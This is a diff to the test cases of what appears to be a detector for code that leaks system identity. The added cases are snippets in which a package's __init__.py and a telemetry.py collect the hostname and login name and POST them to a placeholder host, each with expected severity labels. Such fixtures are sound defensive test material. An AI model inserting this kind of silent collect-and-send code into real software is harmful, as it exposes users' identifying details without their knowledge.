@@ -65,6 +65,19 @@ CASES = [
      "import platform, requests\n"
      "requests.post('https://t.example.net/i', json={'n': platform.node()})\n",
      {2: "medium"}),
+    ("package-init-sends-login-name-high", HOST, "acme_billing/__init__.py",
+     "import getpass, json, platform, http.client\n"
+     "info = {'h': platform.node(), 'u': getpass.getuser()}\n"
+     "conn = http.client.HTTPSConnection('a7x2k9.example.net')\n"
+     "conn.request('POST', '/i', json.dumps(info))\n"
+     "conn.request('POST', '/v', json.dumps({'h': platform.node()}))\n",
+     {4: "high", 5: "medium"}),
+    ("login-name-posted-outside-an-init-medium", HOST, "acme_billing/telemetry.py",
+     "import getpass, json, platform, http.client\n"
+     "info = {'h': platform.node(), 'u': getpass.getuser()}\n"
+     "conn = http.client.HTTPSConnection('a7x2k9.example.net')\n"
+     "conn.request('POST', '/i', json.dumps(info))\n",
+     {4: "medium"}),
     ("js-whoami-output-is-the-login-name", HOST, "m.js",
      "const { execSync } = require('child_process');\n"
      "const who = execSync('whoami').toString().trim();\n"
